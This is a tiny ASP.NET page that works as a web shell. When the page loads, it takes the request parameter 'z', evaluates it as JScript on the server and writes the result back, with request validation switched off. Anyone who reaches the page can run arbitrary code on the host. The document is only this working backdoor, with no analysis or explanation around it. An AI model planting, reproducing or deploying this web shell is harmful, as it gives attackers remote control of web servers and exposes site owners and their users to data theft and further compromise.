<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="Microsoft.JScript" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    string code = Request.Item["z"];
    Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(code, Microsoft.JScript.Vsa.VsaEngine.CreateEngine()));
}
</script>
